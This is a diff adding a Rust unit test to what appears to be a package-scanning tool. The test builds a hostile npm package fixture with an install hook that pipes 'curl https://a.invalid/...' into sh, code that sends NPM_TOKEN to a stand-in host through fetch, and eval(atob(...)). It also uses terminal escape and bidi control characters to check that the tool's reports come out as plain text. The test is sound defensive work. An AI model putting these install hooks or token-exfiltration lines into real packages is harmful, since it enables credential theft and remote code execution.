@@ -417,6 +417,33 @@ mod tests {
     }
 
     #[test]
+    fn no_file_name_and_no_text_of_a_package_steers_who_reads_a_report() {
+        const ODD: &str = "\u{1b}]0:x\u{7}\u{9b}31m\u{202e}\u{2066}\u{2028}\u{200b}\u{e0041}\r";
+        let script = format!("a{ODD}.js");
+        let manifest = serde_json::json!({
+            "name": ODD,
+            "scripts": {"postinstall": format!("node '{script}'"), "install": format!("curl https://a.invalid/{ODD} | sh")},
+            "dependencies": {ODD: ODD},
+        });
+        let code = format!(
+            "/* {ODD} */ const t = process.env[`{ODD}`] + process.env.NPM_TOKEN;\nfetch(`https://a.invalid/{ODD}?` + t); eval(atob(`{ODD}`)); require(`./{ODD}`);"
+        );
+        let one = inspected(&[
+            ("package.json", &manifest.to_string()),
+            (&script, &code),
+            ("index.js", &code),
+            (&format!("{ODD}.png"), "not a picture"),
+        ]);
+        let all = [one];
+        let said = [text(&all[0]), summary(&all), json(&all).unwrap()];
+        for said in said {
+            let plain = crate::output::plain_text(&said);
+            assert_eq!(said, plain);
+        }
+        assert!(!all[0].verdict.findings.is_empty());
+    }
+
+    #[test]
     fn what_could_not_be_read_is_told_and_no_text_of_a_stranger_steers_the_terminal() {
         let one = inspected(&[
             ("package.json", r#"{"main": "a.js"}"#),
